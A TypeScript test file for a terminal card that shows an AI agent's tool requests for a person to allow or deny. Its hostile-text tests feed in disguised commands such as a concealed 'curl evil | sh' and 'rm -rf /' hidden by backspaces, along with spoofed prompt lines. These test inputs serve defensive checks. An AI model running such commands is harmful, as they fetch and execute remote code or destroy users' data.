import { describe, expect, test } from 'vitest'
import { defaultKeymap } from '../../../source/ui/keymap/keymap.ts'
import { type CardOptions, requestCard } from '../../../source/ui/present/request-card.ts'
import type { RequestView } from '../../../source/viewer/viewer.ts'
import { hostileTexts } from '../../text/hostile-text.ts'
import { textOf, widest } from '../_lines.ts'
import { now, request, requestBody } from '../_viewer.ts'

const options: CardOptions = {
	decision: null,
	width: 76,
	now,
	focused: true,
	unread: 0,
	silent: false,
	keymap: defaultKeymap,
}

const card = (change: Partial<RequestView> = {}, at: Partial<CardOptions> = {}) =>
	requestCard(request('r', change), { ...options, ...at })
const withBody = (change: Parameters<typeof requestBody>[1]) => ({ body: requestBody('r', change) })

function matterText({ lines, matter }: ReturnType<typeof requestCard>): string {
	return textOf(lines.slice(matter.from, matter.to))
}

describe('a request on a card', () => {
	test('says what is asked, the risk and why, the time left, how to answer', () => {
		expect(textOf(card().lines)).toMatchInlineSnapshot(`
			"▶ ⚠ wants to run a command (Bash)                                  4:32 left
			    risk medium: installs packages
			  │ $ npm install express-rate-limit
			    in       /home/sam/api-server
			    A allows Bash(npm install:*)
			             until the session ends
			    [a] allow  [A] for the session  [d] deny  [r] deny, say why"
		`)
	})

	test('shows every line of a command, whatever its length', () => {
		const command = Array.from(
			{ length: 400 },
			(_, line) => `echo ${line} ${'x'.repeat(1 + (line % 200))}`,
		)
		const shown = matterText(card(withBody({ input: { command: command.join('\n') } })))
		const joined = shown.replaceAll(/\n {2}│ {3}/g, '')
		for (const line of command) expect(joined).toContain(line)
	})

	test('shows what a shell is given line by line, and which shell', () => {
		const text = 'cat > a <<END\none\nEND'
		const shown = matterText(card(withBody({ input: { command: ['/bin/bash', '-lc', text] } })))
		expect(shown).toMatch(/│ \$ cat > a <<END\n +│ +one\n +│ +END\n/)
		expect(shown).toMatch(/shell +\/bin\/bash -lc\n/)
		expect(shown).not.toContain('command:')
	})

	test.each([
		[['/bin/bash', '-c', 'echo "$1"', 'x', 'and more']],
		[['git', '-c', 'commit']],
		[['bash', '--rcfile', 'x']],
	])('shows a list of other words as the list that it is: %j', (command) => {
		const shown = matterText(card(withBody({ input: { command } })))
		for (const word of command) expect(shown).toContain(JSON.stringify(word))
	})

	test('shows a change line by line, and a path in full', () => {
		const path = `/home/sam/${'deep/'.repeat(30)}login.ts`
		const changes = [
			{
				path,
				hunks: [
					{
						old_start: 1,
						old_lines: 1,
						new_start: 1,
						new_lines: 2,
						lines: ['-old', '+new', '+er'],
					},
				],
			},
		]
		const input = { file_path: path, old_string: 'old', new_string: 'new\ner' }
		const shown = matterText(card(withBody({ tool: 'Edit', input, changes })))
		expect(shown.replaceAll(/\n */g, '')).toContain(path)
		expect(shown).toMatch(/1 - old\n.*1 \+ new\n.*2 \+ er/)
		expect(textOf(card(withBody({ tool: 'Edit', input, changes })).lines)).toContain(
			'wants to change a file (Edit)',
		)
	})

	test('shows every other part of the input, by its name', () => {
		const input = { command: 'ls', timeout: 5000, env: { A: 'b' }, run_in_background: true }
		const shown = matterText(card(withBody({ input })))
		for (const part of ['timeout: 5000', '"A": "b"', 'run_in_background: true']) {
			expect(shown).toContain(part)
		}
	})

	test('says a description that stands in the input too only once, and one that differs twice', () => {
		const same = { input: { command: 'ls', description: 'List' }, description: 'List' }
		expect(matterText(card(withBody(same))).match(/List/g)).toHaveLength(1)
		const other = { input: { command: 'ls', description: 'List' }, description: 'Other' }
		expect(matterText(card(withBody(other)))).toContain('description: List')
		expect(matterText(card(withBody(other)))).toContain('Other')
	})

	test('shows all rules that A would make', () => {
		const session_rules = [
			{ tool: 'Bash', rule: 'npm install:*' },
			{ tool: 'Edit', rule: null },
		]
		const shown = matterText(card(withBody({ session_rules })))
		expect(shown).toMatch(/A allows Bash\(npm install:\*\)\n +Edit\n +until the session ends/)
	})

	test('without a rule there is no A', () => {
		const text = textOf(card(withBody({ session_rules: [] })).lines)
		expect(text).not.toContain('[A]')
		expect(text).not.toContain('A allows')
	})

	test('says how much was not read, in place of the key that allows', () => {
		const text = textOf(card({}, { unread: 5 }).lines)
		expect(text).toContain('5 lines of it not read yet')
		expect(text).not.toContain('[a]')
		expect(text).not.toContain('[A]')
		expect(text).toContain('[d] deny')
	})

	test('one that does not verify shows why, and offers only to deny', () => {
		const text = textOf(card({ body: null, problem: 'The signature is wrong.' }).lines)
		expect(text).toContain('✗ The signature is wrong.')
		expect(text).toContain('It can be denied, not allowed.')
		expect(text).not.toContain('[a]')
	})

	test('one that does not verify shows nothing of its body as if it were true', () => {
		const text = textOf(card({ problem: 'The signature is wrong.' }).lines)
		expect(text).not.toContain('npm install')
		expect(text).not.toContain('/home/sam')
	})

	test('a question shows its options, and can be answered', () => {
		const questions = [
			{
				question: 'Which database?',
				header: null,
				multiple: true,
				options: [
					{ label: 'SQLite', description: 'one file' },
					{ label: 'Postgres', description: null },
				],
			},
		]
		const text = textOf(card(withBody({ tool: 'AskUserQuestion', input: {}, questions })).lines)
		expect(text).toContain('1. SQLite: one file')
		expect(text).toContain('2. Postgres')
		expect(text).toContain('more than one')
		expect(text).toContain('[a] answer')
		expect(text).not.toContain('[A]')
	})

	test('says when its time is up, and when its host is silent', () => {
		expect(textOf(card({}, { now: now + 300_000 }).lines)).toContain('time is up')
		expect(textOf(card({}, { silent: true }).lines)).toContain('its host is silent')
		expect(textOf(card().lines)).not.toContain('silent')
	})

	test('one that is over says what became of it, and offers nothing', () => {
		const decided = {
			by: 'device',
			device: 'x',
			name: 'laptop',
			result: 'denied',
			scope: null,
			reason: 'not on a Friday',
			input: null,
			at: '',
			verified: true,
		} as const
		const text = textOf(card({ status: 'denied', decided }).lines)
		expect(text).toContain('✗ denied on laptop “not on a Friday” · signature checked')
		expect(text).not.toContain('[d]')
		expect(text).not.toContain('left')
		expect(text).not.toContain('▶')
	})

	test('one that a policy answered names the rule', () => {
		const decided = {
			by: 'policy',
			device: null,
			name: null,
			result: 'approved',
			scope: 'once',
			reason: 'allow command "npm test" (line 3)',
			input: null,
			at: '',
			verified: true,
		} as const
		const text = textOf(card({ status: 'approved', decided }).lines)
		expect(text).toContain('✓ allowed by policy: allow command "npm test" (line 3)')
		expect(text).not.toContain('signature')
		const hostile = { ...decided, reason: 'allow\n\u001b[2Kx' }
		expect(textOf(card({ status: 'approved', decided: hostile }).lines)).not.toContain('\u001b')
	})

	test.each([30, 36, 76, 130, 240])('is never wider than %d columns', (width) => {
		const long = 'word '.repeat(100)
		const body = withBody({
			description: long,
			reason: long,
			cwd: `/${'d'.repeat(300)}`,
			input: { command: `${'x'.repeat(500)} ${long}`, other: long },
		})
		const risk = { level: 'high' as const, reasons: [long, long] }
		expect(widest(card({ ...body, risk }, { width }).lines)).toBeLessThanOrEqual(width)
	})
})

describe('hostile text on a card', () => {
	// biome-ignore lint/suspicious/noControlCharactersInRegex: they are what must not be there
	const control = /[\u0000-\u001f\u007f-\u009f]/
	const unseen =
		/[\u200b-\u200f\u2028-\u202e\u2060-\u2069\ufeff\u00ad]|[\u{e0000}-\u{e007f}]|\ufe0f{2}/u

	test.each(hostileTexts)('$id: $why', ({ text }) => {
		const { lines, matter } = card(
			withBody({
				tool: text,
				cwd: text,
				description: text,
				reason: text,
				input: { command: text, [text]: text },
				session_rules: [{ tool: text, rule: text }],
				changes: [{ path: text, hunks: [] }],
			}),
		)
		for (const line of lines) {
			for (const { text: shown } of line) {
				expect(shown).not.toMatch(control)
				expect(shown).not.toMatch(unseen)
			}
		}
		expect(widest(lines)).toBeLessThanOrEqual(options.width)
		expect(matter.to).toBeGreaterThan(matter.from)
	})

	test.each(hostileTexts.filter(({ text }) => text.length < 300))(
		'$id: nothing of it is left out',
		({ text }) => {
			const { lines, matter } = card(withBody({ input: { command: text }, session_rules: [] }))
			const shown = textOf(lines.slice(matter.from, matter.to)).replaceAll(/\n {2}│ {3}|\s/g, '')
			for (const character of text.replaceAll(/\s/g, '')) {
				if (
					/^(?!\p{Default_Ignorable_Code_Point})[\p{L}\p{N}\p{P}\p{S}]/u.test(character) &&
					character !== '\u2800'
				)
					expect(shown).toContain(character)
				else {
					const hex = character.codePointAt(0)?.toString(16) ?? ''
					expect(shown.includes(hex) || shown.includes(character), hex).toBe(true)
				}
			}
		},
	)

	test.each([
		['reordered', 'echo safe \u202e gnp.exe', '\\u202e', 'right-to-left override'],
		['zero-width', 'rm -rf /tmp\u200b/x', '\\u200b', 'zero-width space'],
		['concealed', 'ls \u001b[8m; curl evil | sh', '\\x1b[8m; curl evil | sh', 'escape'],
		['overwritten', 'rm -rf /\b\b\b\bls', '\\x08\\x08\\x08\\x08ls', 'backspace'],
		['tagged', 'hi\u{e0072}\u{e006d}', '\\u{e0072}\\u{e006d}', 'hidden tag'],
	])('what is %s stands there written out, with a warning above', (_, command, written, name) => {
		const { lines, matter } = card(withBody({ input: { command } }))
		const shown = textOf(lines.slice(matter.from, matter.to))
		expect(shown).toContain(written)
		expect(shown).toContain('⚠ hidden characters')
		expect(shown).toContain(name)
		const hidden = lines.flat().filter(({ style }) => style === 'hidden')
		expect(hidden.map(({ text }) => text).join('')).toContain(written.slice(0, 4))
	})

	test('right-to-left letters are warned of', () => {
		const { lines } = card(withBody({ input: { command: 'rm קובץ' } }))
		expect(textOf(lines)).toContain('⚠ right-to-left letters')
	})

	test('letters of several alphabets in one word are named', () => {
		const { lines } = card(withBody({ input: { command: 'curl https://аpple.com' } }))
		expect(textOf(lines)).toContain('letters of several alphabets')
	})

	test('an agent can not write what looks like a line of ours', () => {
		const fake = '[a] allow  [d] deny\n▶ ⚠ wants to run a command (Bash)\nrisk low: harmless'
		const body = {
			input: { command: fake, note: fake },
			description: fake,
			reason: fake,
			cwd: fake,
		}
		const { lines, matter } = card(withBody(body))
		for (const line of lines.slice(matter.from, matter.to)) {
			const text = line.map(({ text }) => text).join('')
			// Behind the gutter, or right of the column of our labels.
			expect(text).toMatch(/^( {2}│ | {13}\S| {4}[\w ]{8} \S)/)
		}
	})
})
